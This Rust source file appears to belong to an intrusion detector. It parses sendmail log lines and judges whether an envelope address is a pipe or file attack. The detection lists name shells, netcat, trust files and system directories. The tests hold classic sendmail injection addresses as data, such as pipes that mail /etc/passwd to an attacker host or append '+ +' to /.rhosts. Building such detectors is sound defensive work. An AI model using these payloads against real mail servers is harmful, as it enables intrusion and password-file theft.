//! The grammar of sendmail's own log messages, and what an address in them means.
//!
//! Sendmail (5.x, 8.6–8.9, 8.10+) writes a handful of message shapes after the syslog
//! header. The detector needs only these:
//!
//! - `QID: message-id=<...>` (5.x, 8.6–8.11; 8.12 moved it into the `from=` line);
//! - `QID: from=ADDR, size=N, class=N[, received from HOST (IP)]` (5.x) or
//!   `QID: from=ADDR, size=N, ..., relay=HOST [IP]` (8.x);
//! - `QID: to=ADDR[,ADDR...], [ctladdr=..., ]delay=HH:MM:SS, [xdelay=..., mailer=..., ]stat=TEXT`;
//! - `QID: BOUNCEQID: return to sender: ...` (`DSN:` from 8.12, `postmaster notify:`,
//!   `sender notify:`): the bounce gets a new queue id, and this line is the only link;
//! - `setsender: ADDR: invalid or unparseable, received from ...` (older: `from=ADDR
//!   unparseable, received from ...`), often without a queue id; sendmail 8.12 and later
//!   spell it `invalid or unparsable` (`QID: setsender: <"|/bin/sh -c '...'">: invalid
//!   or unparsable, received from [IP]`, as Debian's 8.17 writes it);
//! - `QID: ruleset=check_rcpt, arg1=ADDR, relay=HOST [IP], reject=553 5.1.8 ADDR... TEXT`
//!   (8.9 and later): an address refused by a check ruleset of the configuration
//!   (`check_rcpt`, `check_mail`; under Debian's `delay_checks` a sender whose domain does
//!   not resolve makes every recipient refused this way, programs and files included);
//! - `[QID: ]ADDR... TEXT` (a user error such as `Cannot mail directly to files`);
//! - `[QID: ]"wiz" command from CLIENT (IP)` (also `"debug"`, `"showq"`): door-handle
//!   commands that sendmail 8 traps and logs at LOG_CRIT.
//!
//! Everything is bytes: the address part of a line is whatever the remote client sent,
//! so nothing here indexes out of bounds or assumes UTF-8. Field values are cut at the
//! first `, key=` of a key sendmail itself writes, outside double quotes, so commas
//! inside a quoted program (`"|sed -e '1,/^$/'d"`) do not end the address early.
//!
//! Whether an address is an attack is decided here too ([`classify`]), from the
//! address's own shape: a program (`|...`) or a file (`/...`, `~/...`, `:include:`) and
//! what it does. A legitimate `.forward` or alias delivery (`"|/usr/bin/vacation
//! tanaka"`, procmail, a majordomo wrapper) is a program too, so being a program is not
//! enough for a recipient; being a program *sender* always is, since no mail system
//! ever sends from a pipe.

/// One sendmail log message, parsed. Byte slices borrow from the record's message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SmLine<'a> {
    /// `QID: message-id=<...>`.
    MessageId {
        /// The queue id.
        qid: &'a [u8],
    },
    /// `QID: from=ADDR, ...`.
    From {
        /// The queue id.
        qid: &'a [u8],
        /// The sender as logged (quotes and brackets kept).
        addr: &'a [u8],
        /// Where the message came from: the `relay=` or `received from` address.
        source: Option<&'a [u8]>,
    },
    /// `QID: to=ADDR, ..., stat=TEXT`.
    To {
        /// The queue id.
        qid: &'a [u8],
        /// The recipient list as logged.
        addrs: &'a [u8],
        /// Whether `ctladdr=` is present (the address came from an alias or `.forward`).
        ctladdr: bool,
        /// The `mailer=` value, if any (8.x).
        mailer: Option<&'a [u8]>,
        /// sendmail's `delay=` in seconds: how long ago the message was queued.
        delay: Option<i64>,
        /// The `stat=` text.
        stat: &'a [u8],
    },
    /// `QID: BOUNCEQID: return to sender: ...` and its relatives.
    Bounce {
        /// The queue id of the message that bounced.
        qid: &'a [u8],
        /// The queue id of the bounce (or postmaster notice).
        bounce_qid: &'a [u8],
    },
    /// `setsender: ADDR: invalid or unparseable, received from ...`.
    Unparseable {
        /// The queue id, when sendmail logged one.
        qid: Option<&'a [u8]>,
        /// The rejected sender.
        addr: &'a [u8],
        /// The client, as logged after `received from`.
        source: Option<&'a [u8]>,
    },
    /// `[QID: ]ruleset=check_rcpt|check_mail, arg1=ADDR, ..., reject=...`: an address a
    /// check ruleset refused.
    Rejected {
        /// The queue id, when sendmail logged one.
        qid: Option<&'a [u8]>,
        /// The refused address (`arg1=`).
        addr: &'a [u8],
        /// Sender (`check_mail`) or recipient (`check_rcpt`).
        role: Role,
        /// The client, from `relay=`.
        source: Option<&'a [u8]>,
    },
    /// `[QID: ]ADDR... TEXT`, a user error about one address.
    AddrError {
        /// The queue id, when sendmail logged one.
        qid: Option<&'a [u8]>,
        /// The address.
        addr: &'a [u8],
        /// Whether the text is `Cannot mail directly to files/programs`.
        direct: bool,
    },
    /// `[QID: ]"wiz" command from CLIENT (IP)`.
    BogusCommand {
        /// The queue id, when sendmail logged one.
        qid: Option<&'a [u8]>,
        /// The command (`wiz`, `debug`, `showq`).
        command: &'a [u8],
        /// The client address.
        source: Option<&'a [u8]>,
    },
    /// Any other line that starts with a queue id.
    Other {
        /// The queue id.
        qid: &'a [u8],
    },
}

impl<'a> SmLine<'a> {
    /// The queue id the line names first, if any.
    pub fn qid(&self) -> Option<&'a [u8]> {
        match *self {
            SmLine::MessageId { qid }
            | SmLine::From { qid, .. }
            | SmLine::To { qid, .. }
            | SmLine::Bounce { qid, .. }
            | SmLine::Other { qid } => Some(qid),
            SmLine::Unparseable { qid, .. }
            | SmLine::Rejected { qid, .. }
            | SmLine::AddrError { qid, .. }
            | SmLine::BogusCommand { qid, .. } => qid,
        }
    }
}

/// Keys sendmail itself writes after an address; a value ends at `, KEY=`.
const KEYS: &[&[u8]] = &[
    b"size",
    b"class",
    b"pri",
    b"nrcpts",
    b"msgid",
    b"proto",
    b"daemon",
    b"relay",
    b"ctladdr",
    b"delay",
    b"xdelay",
    b"mailer",
    b"dsn",
    b"stat",
    b"bodytype",
    b"received",
    b"tls_verify",
    b"auth",
    b"arg1",
    b"arg2",
    b"reject",
    b"quarantine",
];

/// Parses the message part of a sendmail line. `None` for lines of no use here.
pub fn parse(message: &[u8]) -> Option<SmLine<'_>> {
    let (qid, rest) = match split_qid(message) {
        Some((qid, rest)) => (Some(qid), rest),
        // sendmail's placeholder before a queue id exists.
        None => (None, message.strip_prefix(b"NOQUEUE: ").unwrap_or(message)),
    };
    if let Some(qid) = qid {
        if let Some(value) = rest.strip_prefix(b"message-id=") {
            let _ = value;
            return Some(SmLine::MessageId { qid });
        }
        if let Some(value) = rest.strip_prefix(b"from=") {
            let addr = field_value(value);
            let source = field(value, b"relay")
                .or_else(|| after(value, b", received from ").map(trim))
                .and_then(source_of);
            return Some(SmLine::From { qid, addr, source });
        }
        if let Some(value) = rest.strip_prefix(b"to=") {
            let addrs = field_value(value);
            let tail = value.get(addrs.len()..).unwrap_or_default();
            // stat= is the last field sendmail writes, so its text runs to the end.
            let stat = after(tail, b", stat=").unwrap_or_default();
            return Some(SmLine::To {
                qid,
                addrs,
                ctladdr: field(tail, b"ctladdr").is_some(),
                mailer: field(tail, b"mailer"),
                delay: field(tail, b"delay").and_then(parse_delay),
                stat,
            });
        }
        if let Some((bounce_qid, text)) = split_qid(rest) {
            const LINKS: &[&[u8]] = &[
                b"return to sender:",
                b"DSN:",
                b"postmaster notify:",
                b"sender notify:",
            ];
            if LINKS.iter().any(|link| text.starts_with(link)) {
                return Some(SmLine::Bounce { qid, bounce_qid });
            }
        }
    }
    if let Some(line) = parse_qidless(qid, rest) {
        return Some(line);
    }
    qid.map(|qid| SmLine::Other { qid })
}

/// The shapes that sendmail may log with or without a queue id.
fn parse_qidless<'a>(qid: Option<&'a [u8]>, rest: &'a [u8]) -> Option<SmLine<'a>> {
    if let Some(value) = rest.strip_prefix(b"setsender: ") {
        // 8.12+ writes `unparsable`, older versions `unparseable`.
        let end = find(value, b": invalid or unparseable")
            .or_else(|| find(value, b": invalid or unparsable"))?;
        let addr = value.get(..end)?;
        let source = after(value, b"received from ")
            .map(trim)
            .and_then(source_of);
        return Some(SmLine::Unparseable { qid, addr, source });
    }
    if let Some(value) = rest.strip_prefix(b"ruleset=") {
        let name = value.get(..memchr::memchr(b',', value)?)?;
        let role = match name {
            b"check_rcpt" => Role::Recipient,
            b"check_mail" => Role::Sender,
            _ => return None,
        };
        let rejected = [b"reject".as_slice(), b"quarantine", b"discard"]
            .iter()
            .any(|key| field(value, key).is_some())
            || find(value, b", discard").is_some();
        if !rejected {
            return None;
        }
        let addr = field(value, b"arg1")?;
        let source = field(value, b"relay").and_then(source_of);
        return Some(SmLine::Rejected {
            qid,
            addr,
            role,
            source,
        });
    }
    // Older sendmail: `from=ADDR unparseable, received from HOST`.
    if let Some(value) = rest.strip_prefix(b"from=") {
        let end = find(value, b" unparseable").or_else(|| find(value, b" unparsable"))?;
        let addr = value.get(..end)?;
        let source = after(value, b"received from ")
            .map(trim)
            .and_then(source_of);
        return Some(SmLine::Unparseable { qid, addr, source });
    }
    if rest.first() == Some(&b'"')
        && let Some(end) = find(rest, b"\" command from ")
    {
        let command = rest.get(1..end)?;
        let client = rest.get(end + b"\" command from ".len()..)?;
        return Some(SmLine::BogusCommand {
            qid,
            command,
            source: source_of(client),
        });
    }
    if let Some(end) = find(rest, b"... ") {
        let addr = rest.get(..end)?;
        let text = rest.get(end + 4..).unwrap_or_default();
        let direct = find(text, b"Cannot mail directly to").is_some();
        return Some(SmLine::AddrError { qid, addr, direct });
    }
    None
}

/// Splits `QID: rest`. A queue id is 6 to 20 ASCII letters and digits with at least
/// one of each (`AA01234`, `GAA18680`, `b028n4GB012284`); `setsender:`, `NOQUEUE:` and
/// `STARTTLS=client:` are not.
pub fn split_qid(message: &[u8]) -> Option<(&[u8], &[u8])> {
    let colon = memchr::memchr(b':', message.get(..message.len().min(22))?)?;
    let qid = message.get(..colon)?;
    let rest = message.get(colon + 1..)?.strip_prefix(b" ")?;
    let plausible = (6..=20).contains(&qid.len())
        && qid.iter().all(u8::is_ascii_alphanumeric)
        && qid.iter().any(u8::is_ascii_digit)
        && qid.iter().any(u8::is_ascii_alphabetic);
    plausible.then_some((qid, rest))
}

/// The value that starts `text`: up to the first `, KEY=` (a key sendmail writes)
/// outside double quotes, or the whole text.
fn field_value(text: &[u8]) -> &[u8] {
    let mut quoted = false;
    let mut escaped = false;
    for (i, &b) in text.iter().enumerate() {
        if escaped {
            escaped = false;
            continue;
        }
        match b {
            b'\\' => escaped = true,
            b'"' => quoted = !quoted,
            b',' if !quoted && starts_with_key(text.get(i + 1..).unwrap_or_default()) => {
                return text.get(..i).unwrap_or(text);
            }
            _ => {}
        }
    }
    text
}

fn starts_with_key(text: &[u8]) -> bool {
    let Some(text) = text.strip_prefix(b" ") else {
        return false;
    };
    KEYS.iter()
        .any(|key| text.starts_with(key) && matches!(text.get(key.len()), Some(b'=') | Some(b' ')))
}

/// The value of `, KEY=` in the tail of a line (the first occurrence), up to the next
/// sendmail key.
fn field<'a>(text: &'a [u8], key: &[u8]) -> Option<&'a [u8]> {
    let mut pattern = Vec::with_capacity(key.len() + 3);
    pattern.extend_from_slice(b", ");
    pattern.extend_from_slice(key);
    pattern.push(b'=');
    let start = find(text, &pattern)? + pattern.len();
    Some(field_value(text.get(start..)?))
}

/// What follows the first `needle` in `text`.
fn after<'a>(text: &'a [u8], needle: &[u8]) -> Option<&'a [u8]> {
    let start = find(text, needle)? + needle.len();
    text.get(start..)
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    memchr::memmem::find(haystack, needle)
}

fn trim(text: &[u8]) -> &[u8] {
    text.trim_ascii()
}

/// `HH:MM:SS` or `D+HH:MM:SS` in seconds.
pub fn parse_delay(text: &[u8]) -> Option<i64> {
    let (days, clock) = match memchr::memchr(b'+', text) {
        Some(plus) => (number(text.get(..plus)?)?, text.get(plus + 1..)?),
        None => (0, text),
    };
    let mut parts = clock.split(|&b| b == b':');
    let hours = number(parts.next()?)?;
    let minutes = number(parts.next()?)?;
    let seconds = number(parts.next()?)?;
    if parts.next().is_some() {
        return None;
    }
    Some(((days * 24 + hours) * 60 + minutes) * 60 + seconds)
}

fn number(text: &[u8]) -> Option<i64> {
    if text.is_empty() || text.len() > 9 || !text.iter().all(u8::is_ascii_digit) {
        return None;
    }
    Some(text.iter().fold(0i64, |n, &d| n * 10 + i64::from(d - b'0')))
}

/// The client address in `HOST [IP]`, `[IP]`, `HOST (IP)`, `user@HOST [IP] (may be
/// forged)`, `"wiz" command from HOST [IP] (IP)`: the IP when there is one, else the
/// host name.
pub fn source_of(text: &[u8]) -> Option<&[u8]> {
    let text = trim(text);
    let text = text.get(..field_value(text).len()).unwrap_or(text);
    if let Some(open) = memchr::memchr(b'[', text) {
        let inner = text.get(open + 1..)?;
        let close = memchr::memchr(b']', inner)?;
        let ip = inner.get(..close)?;
        let ip = ip.strip_prefix(b"IPv6:").unwrap_or(ip);
        return (!ip.is_empty()).then_some(ip);
    }
    if let Some(open) = memchr::memchr(b'(', text) {
        let inner = text.get(open + 1..)?;
        let close = memchr::memchr(b')', inner)?;
        let ip = inner.get(..close)?;
        if !ip.is_empty()
            && ip
                .iter()
                .all(|b| b.is_ascii_hexdigit() || *b == b'.' || *b == b':')
        {
            return Some(ip);
        }
    }
    let host = text
        .split(|b| b.is_ascii_whitespace() || *b == b',')
        .next()?;
    let host = match memchr::memrchr(b'@', host) {
        Some(at) => host.get(at + 1..)?,
        None => host,
    };
    (!host.is_empty()).then_some(host)
}

/// Splits a logged recipient list into addresses: commas outside double quotes
/// separate them, and an unquoted program (`|...`) runs to the end of the list,
/// since sendmail would have needed quotes around a program with a comma in it.
pub fn split_addresses(list: &[u8]) -> Vec<&[u8]> {
    let mut out = Vec::new();
    let mut start = 0;
    let mut quoted = false;
    let mut i = 0;
    while i < list.len() {
        let b = list.get(i).copied().unwrap_or_default();
        if i == start {
            let head = list.get(start..).unwrap_or_default();
            let head = head.trim_ascii_start();
            let head = head.strip_prefix(b"<").unwrap_or(head);
            if head.first() == Some(&b'|') {
                break;
            }
        }
        match b {
            b'"' => quoted = !quoted,
            b',' if !quoted => {
                out.push(trim(list.get(start..i).unwrap_or_default()));
                start = i + 1;
                while list.get(start).is_some_and(u8::is_ascii_whitespace) {
                    start += 1;
                }
                i = start;
                continue;
            }
            _ => {}
        }
        i += 1;
    }
    let last = trim(list.get(start..).unwrap_or_default());
    if !last.is_empty() {
        out.push(last);
    }
    out.truncate(64);
    out
}

/// Whether an address is the envelope sender or a recipient.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Role {
    /// `from=` or `setsender:`.
    Sender,
    /// `to=` or a user error about a recipient.
    Recipient,
}

/// What an address is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AddrKind {
    /// A mailbox (`tanaka`, `<a@b>`, `<>`).
    Mailbox,
    /// A program (`|...`).
    Program,
    /// A file (`/...`, `~/...`, `:include:...`).
    File,
}

/// The judgement on one address.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AddrClass {
    /// Mailbox, program or file.
    pub kind: AddrKind,
    /// Whether the address is an attack (see [`classify`]).
    pub malicious: bool,
    /// Whether it names the `decode`/`uudecode` alias or program.
    pub decode: bool,
}

/// Names whose presence in any address is an attack: the password file and the host
/// trust files, and the `+ +` that opens a trust file to everyone.
const STRONG: &[&[u8]] = &[
    b"/etc/passwd",
    b"/etc/shadow",
    b".rhosts",
    b"hosts.equiv",
    b"+ +",
];

/// Interpreters and tools that turn a mail body into commands or a remote session.
const SHELLS: &[&[u8]] = &[
    b"sh", b"csh", b"ksh", b"bash", b"tcsh", b"zsh", b"jsh", b"ash", b"dash", b"rsh", b"xterm",
    b"telnet", b"nc", b"netcat",
];

/// Directories where a mail delivery to a file can only be an attack.
const SYSTEM_DIRS: &[&[u8]] = &[
    b"/etc/",
    b"/bin/",
    b"/sbin/",
    b"/lib/",
    b"/usr/bin/",
    b"/usr/sbin/",
    b"/usr/lib/",
    b"/usr/ucb/",
    b"/usr/etc/",
    b"/usr/local/bin/",
    b"/usr/local/etc/",
    b"/root/",
    b"/var/spool/cron/",
    b"/usr/spool/cron/",
    b"/var/spool/at/",
    b"/usr/spool/at/",
    b"/kernel/",
    b"/opt/",
];

/// Judges one address. `ctladdr` says the delivery line carried `ctladdr=`, i.e. the
/// address came from an alias or a `.forward` of a local user (sendmail 8 only).
///
/// - A program or file as the *sender* is always malicious: nothing legitimate sends
///   from a pipe or a file.
/// - Any address naming `/etc/passwd`, `/etc/shadow`, `.rhosts`, `hosts.equiv` or `+ +`
///   is malicious.
/// - A program recipient is malicious when it runs a shell (`sh`, `/bin/csh`, ...) or a
///   remote-session tool, has a second pipe, a redirection (`<`, `>`), `;`, a backquote
///   or `$(` — unless `ctladdr=` shows it came from a local alias or `.forward`, where
///   only the names above count (procmail's own `.forward` recipe has `||` and `&&`).
/// - A file recipient is malicious in a system directory, at the top of `/`, or when it
///   is a dot file (`~/.forward`, `/home/x/.login`). `/dev/null` is not.
pub fn classify(addr: &[u8], role: Role, ctladdr: bool) -> AddrClass {
    let core = strip_wrapping(addr);
    let lower = core.to_ascii_lowercase();
    let strong = STRONG.iter().any(|name| find(&lower, name).is_some());
    if let Some(program) = core.strip_prefix(b"|") {
        let decode = first_command(program).is_some_and(|cmd| {
            let base = basename(cmd).to_ascii_lowercase();
            base == b"uudecode" || base == b"decode"
        });
        let dangerous = shell_like(program);
        let malicious = role == Role::Sender || strong || (!ctladdr && dangerous);
        return AddrClass {
            kind: AddrKind::Program,
            malicious,
            decode,
        };
    }
    let file = core
        .strip_prefix(b":include:")
        .or_else(|| (core.first() == Some(&b'/') || core.starts_with(b"~")).then_some(core));
    if let Some(path) = file {
        let path = path.trim_ascii();
        let malicious = role == Role::Sender || strong || dangerous_file(path);
        return AddrClass {
            kind: AddrKind::File,
            malicious,
            decode: false,
        };
    }
    let local = core
        .split(|&b| b == b'@')
        .next()
        .unwrap_or_default()
        .to_ascii_lowercase();
    let decode = local == b"decode" || local == b"uudecode";
    AddrClass {
        kind: AddrKind::Mailbox,
        malicious: strong,
        decode,
    }
}

/// The address without surrounding blanks, angle brackets, quotes and backslashes, so
/// that `<"|/bin/sh">`, `"\|/bin/sh"` and `|/bin/sh` all look alike.
fn strip_wrapping(addr: &[u8]) -> &[u8] {
    let mut core = addr.trim_ascii();
    for _ in 0..8 {
        let before = core.len();
        if let Some(inner) = core.strip_prefix(b"<") {
            core = inner.strip_suffix(b">").unwrap_or(inner).trim_ascii();
        }
        if let Some(inner) = core.strip_prefix(b"\"") {
            core = inner.strip_suffix(b"\"").unwrap_or(inner).trim_ascii();
        }
        if let Some(inner) = core.strip_prefix(b"\\") {
            core = inner;
        }
        if core.len() == before {
            break;
        }
    }
    core
}

/// Whether a program (without its leading `|`) does more than run one command with
/// plain arguments.
fn shell_like(program: &[u8]) -> bool {
    let mut bytes = program.iter().copied().peekable();
    let mut previous = 0u8;
    while let Some(b) = bytes.next() {
        match b {
            b'<' | b'>' | b';' | b'`' => return true,
            b'$' if bytes.peek() == Some(&b'(') => return true,
            // `||` is a shell "or", not a pipe: procmail's recipe uses it.
            b'|' => {
                if bytes.peek() == Some(&b'|') {
                    bytes.next();
                } else if previous != b'|' {
                    return true;
                }
            }
            _ => {}
        }
        previous = b;
    }
    words(program).any(|word| {
        let base = basename(word).to_ascii_lowercase();
        SHELLS.iter().any(|shell| base == *shell)
    })
}

fn dangerous_file(path: &[u8]) -> bool {
    let lower = path.to_ascii_lowercase();
    if lower == b"/dev/null" {
        return false;
    }
    let base = basename(&lower);
    if base.first() == Some(&b'.') {
        return true;
    }
    if lower.starts_with(b"/dev/") {
        return true;
    }
    // `/x` directly under the root (`/.rhosts`, `/vmunix`).
    if lower.first() == Some(&b'/')
        && memchr::memchr(b'/', lower.get(1..).unwrap_or_default()).is_none()
    {
        return true;
    }
    SYSTEM_DIRS.iter().any(|dir| lower.starts_with(dir))
}

/// Words of a command line, split at blanks, quotes and shell operators.
fn words(text: &[u8]) -> impl Iterator<Item = &[u8]> {
    text.split(|b| b.is_ascii_whitespace() || b"|;&()'\"`<>".contains(b))
        .filter(|w| !w.is_empty())
}

fn first_command(program: &[u8]) -> Option<&[u8]> {
    words(program).find(|w| !w.contains(&b'=') && *w != b"exec")
}

fn basename(path: &[u8]) -> &[u8] {
    match memchr::memrchr(b'/', path) {
        Some(slash) => path.get(slash + 1..).unwrap_or_default(),
        None => path,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_a_v5_from_line() {
        let line = parse(b"AA23296: from=<r00t@bad.example.org>, size=857, class=0, received from shell2.hacker.example.org (203.0.113.158)");
        assert_eq!(
            line,
            Some(SmLine::From {
                qid: b"AA23296",
                addr: b"<r00t@bad.example.org>",
                source: Some(b"203.0.113.158"),
            })
        );
        let line = parse(b"AA23296: from=<a@b>, size=857, class=0, received from [192.0.2.9]");
        assert!(matches!(
            line,
            Some(SmLine::From {
                source: Some(b"192.0.2.9"),
                ..
            })
        ));
    }

    #[test]
    fn parses_an_unquoted_program_sender_with_angle_bracket() {
        let line = parse(b"AA07496: from=|/bin/mail h4x@evil.example.org < /etc/passwd, size=912, class=0, pri=30912, nrcpts=1, proto=SMTP, relay=[198.51.100.237]");
        assert_eq!(
            line,
            Some(SmLine::From {
                qid: b"AA07496",
                addr: b"|/bin/mail h4x@evil.example.org < /etc/passwd",
                source: Some(b"198.51.100.237"),
            })
        );
    }

    #[test]
    fn parses_to_lines() {
        let line = parse(b"VAA22233: to=\"|sed -e '1,/^$/'d | /bin/sh\", ctladdr=x (1/1), delay=1+00:00:01, xdelay=00:00:00, mailer=prog, stat=Sent (ok, stat=no)");
        assert_eq!(
            line,
            Some(SmLine::To {
                qid: b"VAA22233",
                addrs: b"\"|sed -e '1,/^$/'d | /bin/sh\"",
                ctladdr: true,
                mailer: Some(b"prog"),
                delay: Some(86401),
                stat: b"Sent (ok, stat=no)",
            })
        );
        let line = parse(
            b"AA1234x: to=tanaka, delay=00:30:44, stat=Deferred: Resource temporarily unavailable",
        );
        assert!(matches!(
            line,
            Some(SmLine::To {
                delay: Some(1844),
                ctladdr: false,
                mailer: None,
                ..
            })
        ));
    }

    #[test]
    fn parses_bounce_links_and_probes() {
        assert_eq!(
            parse(b"AA07496: AB07496: return to sender: User unknown"),
            Some(SmLine::Bounce {
                qid: b"AA07496",
                bounce_qid: b"AB07496"
            })
        );
        assert_eq!(
            parse(b"b0A5lCab008315: b0A5lCac008315: DSN: User unknown"),
            Some(SmLine::Bounce {
                qid: b"b0A5lCab008315",
                bounce_qid: b"b0A5lCac008315"
            })
        );
        assert_eq!(
            parse(b"setsender: |/bin/sh: invalid or unparseable, received from evil.example [192.0.2.1]"),
            Some(SmLine::Unparseable { qid: None, addr: b"|/bin/sh", source: Some(b"192.0.2.1") })
        );
        // As Debian's sendmail 8.17 wrote them (tests/fixtures/live/sendmail-8.17).
        assert_eq!(
            parse(b"6B7CtSBt000171: setsender: <\"|/bin/sh -c 'cat /etc/passwd | mail attacker@evil.example'\">: invalid or unparsable, received from [127.0.0.21]"),
            Some(SmLine::Unparseable {
                qid: Some(b"6B7CtSBt000171"),
                addr: b"<\"|/bin/sh -c 'cat /etc/passwd | mail attacker@evil.example'\">",
                source: Some(b"127.0.0.21")
            })
        );
        assert_eq!(
            parse(b"6B7Ctkbh000191: ruleset=check_rcpt, arg1=<\"|/bin/sh -c 'id > /tmp/pwned'\">, relay=[127.0.0.37], reject=553 5.1.8 <\"|/bin/sh -c 'id > /tmp/pwned'\">... Domain of sender address attacker@nowhere.invalid does not exist"),
            Some(SmLine::Rejected {
                qid: Some(b"6B7Ctkbh000191"),
                addr: b"<\"|/bin/sh -c 'id > /tmp/pwned'\">",
                role: Role::Recipient,
                source: Some(b"127.0.0.37")
            })
        );
        assert_eq!(
            parse(b"NOQUEUE: ruleset=check_mail, arg1=<|/bin/sh>, relay=evil.example [192.0.2.9], reject=553 5.1.7 <|/bin/sh>... Invalid sender"),
            Some(SmLine::Rejected {
                qid: None,
                addr: b"<|/bin/sh>",
                role: Role::Sender,
                source: Some(b"192.0.2.9")
            })
        );
        // A ruleset that accepted, or one about the connection, names no refused address.
        assert_eq!(
            parse(b"ruleset=check_relay, arg1=evil.example, arg2=192.0.2.9, relay=evil.example [192.0.2.9], reject=550 5.7.1 Access denied"),
            None
        );
        assert_eq!(
            parse(b"\"wiz\" command from evil.example [192.0.2.7] (192.0.2.7)"),
            Some(SmLine::BogusCommand {
                qid: None,
                command: b"wiz",
                source: Some(b"192.0.2.7")
            })
        );
        assert_eq!(
            parse(b"KAA01234: /etc/passwd... Cannot mail directly to files"),
            Some(SmLine::AddrError {
                qid: Some(b"KAA01234"),
                addr: b"/etc/passwd",
                direct: true
            })
        );
        assert_eq!(
            parse(b"starting daemon (8.15.2): SMTP+queueing@00:10:00"),
            None
        );
        assert_eq!(parse(b"NOQUEUE: connect from x"), None);
    }

    #[test]
    fn classifies_attacks_and_legitimate_programs() {
        let bad = |a: &[u8]| classify(a, Role::Recipient, false).malicious;
        assert!(bad(b"\"|sed -e '1,/^$/'d | /bin/sh\""));
        assert!(bad(b"\"|/bin/echo + + >> /.rhosts\""));
        assert!(bad(b"/.rhosts"));
        assert!(bad(b"~/.rhosts"));
        assert!(bad(b"/etc/passwd"));
        assert!(bad(b"<\"|/bin/mail x@y < /etc/passwd\">"));
        assert!(bad(b"<|/bin/csh -c id>"));
        assert!(bad(b":include:/etc/passwd"));
        assert!(bad(b"/home/tanaka/.forward"));
        assert!(!bad(b"\"|/usr/bin/vacation tanaka\""));
        assert!(!bad(b"\"|/usr/local/bin/procmail -f-\""));
        assert!(!bad(
            b"\"|IFS=' ' && exec /usr/local/bin/procmail -f- || exit 75 #tanaka\""
        ));
        assert!(!bad(b"/dev/null"));
        assert!(!bad(b"/var/spool/archive/list"));
        assert!(!bad(b"<passwd-admin@shell1.example.ac.jp>"));
        // A program sender is never legitimate.
        assert!(classify(b"|/usr/bin/true", Role::Sender, false).malicious);
        // An alias program with a pipe is legitimate when sendmail names its owner...
        assert!(
            !classify(
                b"\"|/usr/lib/news/recnews | /usr/bin/logger\"",
                Role::Recipient,
                true
            )
            .malicious
        );
        // ...but not when it names the trust files.
        assert!(classify(b"\"|/bin/echo + + >> /.rhosts\"", Role::Recipient, true).malicious);
        assert!(classify(b"decode", Role::Recipient, false).decode);
        assert!(classify(b"\"|/usr/bin/uudecode\"", Role::Recipient, true).decode);
    }

    #[test]
    fn splits_recipient_lists() {
        assert_eq!(
            split_addresses(b"a, b,\"|x, y\""),
            vec![&b"a"[..], b"b", b"\"|x, y\""]
        );
        assert_eq!(
            split_addresses(b"a,|sed 1,2d | sh"),
            vec![&b"a"[..], b"|sed 1,2d | sh"]
        );
        assert_eq!(split_addresses(b""), Vec::<&[u8]>::new());
    }

    #[test]
    fn never_panics_on_odd_bytes() {
        let samples: &[&[u8]] = &[
            b"",
            b":",
            b"AA1: ",
            b"AA01234:",
            b"AA01234: to=",
            b"AA01234: from=",
            b"AA01234: to=\"",
            b"AA01234: to=x, delay=+:, stat=",
            b"setsender: ",
            b"\"",
            b"\" command from ",
            b"...",
            b"AA01234: AB01234:",
            b"\xff\xfe: to=\xff",
            b"AA01234: from=x, relay=[",
            b"AA01234: from=x, relay=(",
            b"ruleset=",
            b"ruleset=check_rcpt,",
            b"ruleset=check_rcpt, arg1=, reject=",
            b"AA01234: ruleset=check_mail, reject=553, arg1=\"",
            b"setsender: x: invalid or unparsable",
        ];
        for sample in samples {
            let _ = parse(sample);
            let _ = classify(sample, Role::Recipient, false);
            let _ = split_addresses(sample);
            let _ = source_of(sample);
            let _ = parse_delay(sample);
        }
    }
}
